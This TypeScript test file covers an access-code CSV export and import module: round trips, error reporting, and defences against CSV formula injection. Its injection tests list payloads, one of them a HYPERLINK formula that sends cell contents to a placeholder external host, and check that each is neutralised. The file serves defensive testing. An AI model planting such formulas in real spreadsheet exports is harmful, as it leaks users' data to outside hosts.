import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { exportCsv, parseImport, toCsv } from "./csv";

const rows = [
  {
    paymentReferenceId: "RE-2026-0042",
    codeCount: 3,
    createdAt: "2026-11-24T08:00:00.000Z",
    validUntil: "2027-11-24T08:00:00.000Z",
    codes: ["ABCD-EFGH-JKMN", "PQRS-TUVW-XYZ2", "3456-789A-BCDE"],
  },
  {
    paymentReferenceId: 'Schule "Am See"; Klasse 7b',
    codeCount: 25,
    createdAt: "2026-11-24T09:00:00.000Z",
    validUntil: "2027-11-24T09:00:00.000Z",
    codes: [],
  },
];

describe("access-code CSV", () => {
  for (const delimiter of [";", ","] as const) {
    it(`exports and imports again with '${delimiter}' (round trip, quoting included)`, () => {
      const text = exportCsv(rows, delimiter);
      const parsed = parseImport(text, {
        delimiter,
        referenceColumn: "paymentReferenceId",
        countColumn: "codeCount",
      });
      expect(parsed.ok).toBe(true);
      if (!parsed.ok) return;
      expect(parsed.rows.map((r) => [r.paymentReferenceId, r.count, r.problems])).toEqual([
        ["RE-2026-0042", 3, []],
        ['Schule "Am See"; Klasse 7b', 25, []],
      ]);
    });
  }

  it("names missing columns, refuses an empty file and reports problems per row", () => {
    const opts = { delimiter: ";" as const, referenceColumn: "Referenz", countColumn: "Anzahl" };
    expect(parseImport("", opts)).toEqual({ ok: false, error: "empty" });
    expect(parseImport("Referenz;Menge\nA;1\n", opts)).toEqual({
      ok: false,
      error: "columnsMissing",
      missing: ["Anzahl"],
    });
    const result = parseImport(
      "\uFEFFReferenz;Anzahl\r\nA;3\r\n;2\r\nB;0\r\nC;1001\r\nD;x\r\n\r\n",
      opts,
    );
    expect(result.ok && result.rows.map((r) => [r.line, r.problems])).toEqual([
      [2, []],
      [3, ["referenceMissing"]],
      [4, ["countInvalid"]],
      [5, ["countInvalid"]],
      [6, ["countInvalid"]],
    ]);
  });
});

describe("CSV injection (OWASP)", () => {
  const evil = [
    '=HYPERLINK("http://x.example/?"&A1,"Klick")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "  =1+1",
    "\uFF1D1+1",
  ];

  it("text cells that start like a formula are written as text, numbers stay numbers", () => {
    const text = toCsv(
      ["team", "rank"],
      [...evil.map((name) => [name, -1]), ["Ada Lovelace, =Bob", 2]],
    );
    const cells = Papa.parse<string[]>(text, { delimiter: ";" }).data.slice(1);
    for (const [i, name] of evil.entries()) {
      expect(cells[i]![0]).toBe(`'${name}`);
      expect(cells[i]![1]).toBe("-1");
    }
    // Quoted as well: the apostrophe is part of the cell, not a separate field.
    expect(text).toContain(`"'=HYPERLINK(`);
    expect(cells[evil.length]![0]).toBe("Ada Lovelace, =Bob");
  });

  it("the access-code export neutralises references, and its file imports as typed", () => {
    const rows = [
      {
        paymentReferenceId: "=1+1",
        codeCount: 1,
        createdAt: "2026-11-24T08:00:00.000Z",
        validUntil: "2027-11-24T08:00:00.000Z",
        codes: ["ABCD-EFGH-JKMN"],
      },
    ];
    const text = exportCsv(rows);
    expect(text).toContain(`"'=1+1"`);
    const parsed = parseImport(text, {
      delimiter: ";",
      referenceColumn: "paymentReferenceId",
      countColumn: "codeCount",
    });
    expect(parsed.ok && parsed.rows[0]!.paymentReferenceId).toBe("=1+1");
  });

  it("every CSV the apps write goes through toCsv (no other papaparse unparse)", () => {
    const root = path.resolve(import.meta.dirname, "../../..");
    const offenders: string[] = [];
    const walk = (dir: string) => {
      for (const entry of readdirSync(dir, { withFileTypes: true })) {
        const full = path.join(dir, entry.name);
        if (entry.isDirectory()) {
          if (!["node_modules", "build", ".react-router"].includes(entry.name)) walk(full);
        } else if (/\.(ts|tsx)$/.test(entry.name) && !/\.test\.tsx?$/.test(entry.name)) {
          const source = readFileSync(full, "utf8");
          if (source.includes(".unparse(") && !full.endsWith(path.join("competitions", "csv.ts")))
            offenders.push(path.relative(root, full));
        }
      }
    };
    for (const app of ["editor/app", "player/app"]) walk(path.join(root, app));
    expect(offenders).toEqual([]);
  });
});
